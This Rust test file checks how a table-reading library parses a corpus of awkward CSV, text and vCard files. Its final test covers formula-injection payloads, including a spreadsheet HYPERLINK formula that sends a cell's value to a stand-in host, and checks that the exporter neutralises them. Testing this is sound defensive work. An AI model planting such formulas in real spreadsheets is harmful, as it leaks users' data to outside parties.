//! The files of the corpus, each with a difficulty of its own, and what becomes of them; and the real ones that it was made
//! after, where they are.

#![allow(clippy::unwrap_used, reason = "this is for tests")]

use std::{
    fs,
    path::{Path, PathBuf},
};

use files::{Choice, FileError, Note, csv, open};
use serde_json::Value;

/// File, column names, rows, a cell that shows that it was understood, what is told.
type Case = (&'static str, &'static [&'static str], usize, (usize, usize, &'static str), &'static [&'static str]);

const TABLES: [Case; 33] = [
    ("big5.csv", &["客戶名稱", "備註"], 1, (0, 0, "許功蓋公司"), &["guessed"]),
    ("blanks.csv", &["a", "b", "c"], 2, (1, 0, "无"), &[]),
    ("changes.csv", &["姓名", "电话"], 4, (3, 0, "赵六"), &["encoding_changes"]),
    ("comma_in_quotes.csv", &["first", "last", "address"], 1, (0, 1, "Lovelace, Countess"), &[]),
    ("empty_cells.csv", &["a", "b", "c"], 2, (0, 1, ""), &[]),
    ("empty_cells_crlf.csv", &["a", "b", "c"], 2, (1, 2, "4"), &[]),
    ("ends_in_commas.csv", &["name", "lat", "lon"], 2, (1, 1, "47,1"), &[]),
    ("escaped_quotes.csv", &["a", "b"], 2, (0, 1, "say \"hello\" twice"), &[]),
    ("formulas.csv", &["a", "b"], 2, (0, 0, "=1+1"), &[]),
    ("gb18030.csv", &["客户名称", "备注"], 2, (1, 0, "𠮷野家"), &["guessed"]),
    ("half_wrapped.csv", &["a", "b", "c"], 2, (1, 2, "6"), &["unwrapped"]),
    ("header_newline.csv", &["first \n last", "b", "c"], 1, (0, 0, "d"), &[]),
    ("json_in_a_cell.csv", &["key", "val"], 1, (0, 1, "{\"kind\": \"point\", \"at\": [1.5, 2]}"), &[]),
    ("latin1.csv", &["a", "b", "c"], 2, (1, 2, "©"), &["guessed"]),
    ("long_row.csv", &["a", "b", ""], 1, (0, 2, "3"), &[]),
    ("markdown.md.txt", &["Name", "City"], 1, (0, 0, "A | B"), &[]),
    ("newlines.csv", &["a", "b", "c"], 3, (1, 0, "Once upon \na time"), &[]),
    ("newlines_crlf.csv", &["a", "b", "c"], 3, (1, 0, "Once upon \r\na time"), &[]),
    ("nul.csv", &["a", "b", "c"], 1, (0, 1, "2"), &["nuls_removed"]),
    ("old_mac.csv", &["a", "b", "c"], 2, (1, 2, "x"), &[]),
    ("open_quote.csv", &["a", "b"], 1, (0, 0, "1"), &["open_quote"]),
    ("pipes.txt", &["name", "city"], 2, (1, 1, "D"), &[]),
    ("quotes_and_newlines.csv", &["a", "b"], 2, (0, 1, "ha \n\"ha\" \nha"), &[]),
    ("ragged.csv", &["a", "b", "c"], 3, (2, 1, "uh"), &["long_rows", "short_rows"]),
    ("semicolons.csv", &["Name", "Preis"], 2, (0, 1, "1,50"), &[]),
    (
        "three.vcf",
        &["full name", "company name", "department", "mobile phone", "work phone", "email address", "notes"],
        3,
        (2, 4, "+1-555-0100 ext. 7"),
        &["without_company", "photos_skipped"],
    ),
    ("title_above.csv", &["客户", "电话", "备注"], 1, (0, 1, "1"), &["header_below"]),
    ("utf16_bare.csv", &["姓名", "城市"], 1, (0, 1, "北京"), &["guessed"]),
    ("utf16_mark.csv", &["姓名", "城市"], 1, (0, 0, "张三"), &[]),
    ("utf8.csv", &["a", "b"], 2, (1, 1, "木兰"), &[]),
    ("utf8_mark.csv", &["foo", "bar"], 1, (0, 0, "你好"), &[]),
    ("wrapped.csv", &["a", "b", "c"], 2, (0, 1, "two, three"), &["unwrapped"]),
    ("no_header.csv", &[], 0, (0, 0, ""), &[]),
];

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus")
}

#[test]
fn each_file_of_the_corpus_becomes_what_it_says() {
    for (file, headers, rows, (row, column, cell), notes) in TABLES {
        let opened = open(&fs::read(corpus().join(file)).unwrap(), Choice::default());
        if rows == 0 {
            assert_eq!(opened, Err(FileError::Empty), "{file}");
            continue;
        }
        let opened = opened.unwrap_or_else(|error| panic!("{file}: {error}"));
        assert_eq!(opened.table.headers, headers, "{file}");
        assert_eq!((opened.table.len(), opened.table.cell(row, column)), (rows, cell), "{file}");
        assert_eq!(opened.notes.iter().map(Note::code).collect::<Vec<_>>(), notes, "{file}");
    }
    assert_eq!(fs::read_dir(corpus()).unwrap().count(), TABLES.len() + 1, "nothing.csv besides");
    assert_eq!(open(&fs::read(corpus().join("nothing.csv")).unwrap(), Choice::default()), Err(FileError::Empty));
}

/// The folder of real files, which stands beside the checkout; the project does without.
fn shared(folder: &str) -> Option<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data").join(folder);
    if !folder.is_dir() {
        eprintln!("{} is not here: skipped", folder.display());
        return None;
    }
    Some(folder)
}

fn files_under(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let mut files: Vec<PathBuf> =
        entries.flat_map(|path| if path.is_dir() { files_under(&path) } else { vec![path] }).collect();
    files.sort();
    files
}

#[test]
fn real_files_have_the_rows_that_they_have() {
    let Some(folder) = shared("") else { return };
    let expected = [
        ("csv_torture/csvkit/bad.csv", Ok(3)),
        ("csv_torture/csvkit/blanks.csv", Ok(1)),
        ("csv_torture/csvkit/dummy.tsv", Ok(1)),
        ("csv_torture/csvkit/empty.csv", Err(FileError::Empty)),
        ("csv_torture/csvkit/mac_newlines.csv", Ok(2)),
        ("csv_torture/csvkit/no_header_row.csv", Err(FileError::Empty)),
        ("csv_torture/csvkit/null_byte.csv", Ok(1)),
        ("csv_torture/csvkit/test.xlsx", Ok(5)),
        ("csv_torture/csvkit/test_empty_columns_long_row.csv", Err(FileError::Empty)),
        ("csv_torture/csvkit/test_header_newline.csv", Ok(1)),
        ("csv_torture/csvkit/test_latin1.csv", Ok(2)),
        ("csv_torture/csvkit/test_utf16_little.csv", Ok(2)),
        ("csv_torture/csvkit/test_utf8_bom.csv", Ok(2)),
        ("csv_torture/formula_injection/payloads.csv", Ok(25)),
        ("maven_crm/sales_pipeline.csv", Ok(8800)),
        ("maven_crm/accounts.csv", Ok(85)),
        ("x_education_leads/Leads.csv", Ok(9240)),
        ("febrl/dataset1.csv", Ok(1000)),
    ];
    for (file, rows) in expected {
        let opened = open(&fs::read(folder.join(file)).unwrap(), Choice::default());
        assert_eq!(opened.map(|opened| opened.table.len()), rows, "{file}");
    }
}

/// Every file of these folders, also those that are no tables, ends in rows or in a reason that is told.
#[test]
fn no_real_file_ends_in_nothing_at_all() {
    for folder in ["csv_torture", "vcard"] {
        let Some(folder) = shared(folder) else { continue };
        let files = files_under(&folder);
        assert!(files.len() >= 7, "{}", folder.display());
        for file in files {
            match open(&fs::read(&file).unwrap(), Choice::default()) {
                Ok(opened) => assert!(!opened.table.is_empty(), "{}", file.display()),
                Err(error) => assert!(!error.code().is_empty(), "{}", file.display()),
            }
        }
    }
}

/// The spectrum's tables are what the JSON beside them says: names of columns, order, every cell.
#[test]
fn the_spectrum_of_csv_is_read_as_its_json_says() {
    let Some(folder) = shared("csv_torture/csv-spectrum") else { return };
    let files = files_under(&folder.join("csvs"));
    assert_eq!(files.len(), 12);
    for file in files {
        let name = file.file_stem().unwrap().to_string_lossy().into_owned();
        let json = fs::read(folder.join("json").join(format!("{name}.json"))).unwrap();
        let json: Value = serde_json::from_slice(&json).unwrap();
        let mut rows = json.as_array().cloned().unwrap_or_else(|| vec![json.clone()]);
        if name == "location_coordinates" {
            // Here the JSON is of another row: its number is not the file's.
            rows[0]["Contact Phone Number"] = "2095257564".into();
        }
        let mut text = fs::read_to_string(&file).unwrap();
        if name.ends_with("_crlf") && !text.contains('\r') {
            // Git gave the copy other line ends than its name says.
            text = text.replace('\n', "\r\n");
        }
        let table = open(text.as_bytes(), Choice::default()).unwrap().table;
        let read = (0..table.len()).map(|row| {
            let cells = table.headers.iter().cloned().zip(table.row(row).map(Value::from));
            Value::Object(cells.collect())
        });
        assert_eq!(read.collect::<Vec<_>>(), rows, "{name}");
    }
}

/// The payloads as they stand in a file of others: each is read for what it says, is harmless when it goes out where it must
/// be, and comes back as it was.
#[test]
fn real_payloads_are_read_made_harmless_and_come_back() {
    let Some(folder) = shared("csv_torture/formula_injection") else { return };
    let table = open(&fs::read(folder.join("payloads.csv")).unwrap(), Choice::default()).unwrap().table;
    assert_eq!(table.headers, ["id", "payload", "must_be_neutralised_on_export"]);
    assert_eq!(table.len(), 25);
    let payload = |row: usize| table.row(row).nth(1).unwrap();
    assert_eq!(payload(7), "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击\")");
    assert_eq!((payload(9), payload(11), payload(12)), ("\t=1+1", "\n=1+1", " =1+1"));
    assert_eq!(payload(24), "=1+1", "the apostrophe of one that was neutralised before is no part of it");
    for row in 0..table.len() {
        let (payload, must) = (payload(row), table.cell(row, 2));
        // What is neutralised in the file is a formula once it is read.
        let is_formula = !must.starts_with('n') || row == 24;
        let guarded = csv::guard(payload);
        assert_eq!(guarded.starts_with('\'') && guarded != payload, is_formula, "{payload:?}: {must}");
        let again = csv::write([["id", "payload"], [table.cell(row, 0), payload]], true);
        let again = open(again.as_bytes(), Choice::default()).unwrap().table;
        assert_eq!(again.row(0).nth(1), Some(payload), "{must}");
    }
}
